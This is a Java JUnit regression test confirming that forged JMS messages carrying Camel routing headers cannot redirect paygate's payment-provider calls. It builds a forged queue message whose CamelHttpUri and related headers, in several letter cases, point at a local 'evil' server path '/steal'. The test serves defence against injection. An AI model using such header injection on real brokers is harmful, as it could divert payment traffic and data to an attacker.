package io.paygate.security;

import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static io.paygate.testing.RunningPaygate.json;
import static io.paygate.testing.RunningPaygate.order;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.github.tomakehurst.wiremock.WireMockServer;
import io.paygate.testing.RunningPaygate;
import jakarta.jms.Connection;
import jakarta.jms.MessageProducer;
import jakarta.jms.Session;
import jakarta.jms.TextMessage;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CVE-2026-40453 / CVE-2026-43866: headers that arrive with a JMS message, in any case, must
 * not steer paygate's outbound calls. A forged dispatch message carrying Camel headers that
 * point at another host still reaches only the configured provider, once.
 */
class JmsHeaderInjectionTest {

    @TempDir
    Path dataDir;

    @Test
    void camelHeadersOnAQueueMessageCannotRedirectTheProviderCall() throws Exception {
        WireMockServer evil = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
        evil.start();
        try (RunningPaygate paygate = RunningPaygate.start(dataDir, Map.of("paygate.sync-wait", "1s"))) {
            // no attempt is made by the API or the queue: the forged message is what dispatches it
            paygate.stopDispatching();
            String reference = json(paygate.postOrder(order("steered", "5.00", "EUR", "tok_visa")).body())
                    .path("reference").asText();

            try (Connection c = paygate.brokerClient().createConnection()) {
                Session s = c.createSession(false, Session.AUTO_ACKNOWLEDGE);
                MessageProducer p = s.createProducer(s.createQueue("paygate.orders"));
                TextMessage forged = s.createTextMessage("{\"reference\":\"" + reference + "\"}");
                forged.setStringProperty("CamelHttpUri", evil.baseUrl() + "/steal");
                forged.setStringProperty("camelhttpuri", evil.baseUrl() + "/steal");
                forged.setStringProperty("CAMELHTTPURI", evil.baseUrl() + "/steal");
                forged.setStringProperty("CamelHttpPath", "/steal");
                forged.setStringProperty("paygateProvider", "evil");
                p.send(forged);
            }
            paygate.startDispatching();

            await().atMost(Duration.ofSeconds(15)).until(() -> "APPROVED".equals(paygate.statusOf("steered")));
            Thread.sleep(500); // nothing else arrives late
            assertThat(paygate.charges("acme")).containsEntry(reference, 1);
            assertThat(evil.findAll(anyRequestedFor(anyUrl()))).isEmpty();
        } finally {
            evil.stop();
        }
    }
}
